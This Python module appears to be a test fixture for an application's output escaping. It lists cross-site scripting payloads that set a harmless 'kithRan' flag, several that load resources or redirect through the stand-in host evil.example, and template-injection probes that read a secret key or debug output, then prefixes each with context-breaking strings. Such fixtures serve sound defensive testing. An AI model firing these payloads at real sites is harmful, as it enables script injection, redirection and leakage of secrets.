"""Texts that would run as scripts if a page took them for markup; each would set `kithRan`."""

from itertools import product

RUN = "window.kithRan=1"
PAYLOADS = [
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"\"><script>{RUN}</script>",
    f"'><img src=x onerror={RUN}>", f"</textarea><script>{RUN}</script>", f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"<iframe srcdoc='<script>{RUN}</script>'>", f"javascript:{RUN}//",
    f"\" autofocus onfocus={RUN} x=\"", f"' onmouseover={RUN} x='", f"<body onload={RUN}>", f"<details open ontoggle={RUN}>",
    f"<a href=javascript:{RUN}>x</a>", "<style>*{background:url(https://evil.example/x)}</style>",
    "<img src=https://evil.example/x.gif>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>", f"<form action=javascript:{RUN}><button>x", f"<math><mtext></p><style><img src=x onerror={RUN}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}", "{% debug %}", "{{ settings.SECRET_KEY }}", f"${{{RUN}}}", f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<input onfocus={RUN} autofocus>", f"<video><source onerror={RUN}>",
    f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>", "<xss hx-get=//evil.example hx-trigger=load>",
    f"<div hx-on:load={RUN} hx-trigger=load>", "\" hx-get=\"/today/\" hx-trigger=\"load", f"<p style=animation-name:x onanimationstart={RUN}>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"<ScRiPt>{RUN}</sCrIpT>", f"<svg><script>{RUN}</script></svg>", f"\"-{RUN}-\"", f"';{RUN}//", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
]  # fmt: skip


def variants() -> list[str]:
    """Every payload behind ways out of where it may stand, and in other clothes."""
    before = [
        "",
        '"',
        "'>",
        "</p>",
        "</option></select>",
        "</script>",
        "]]>",
        "-->",
        "\r\n",
        "\u2028",
        "\ufeff",
        'x" ',
    ]
    return list(dict.fromkeys(way + payload for way, payload in product(before, PAYLOADS)))
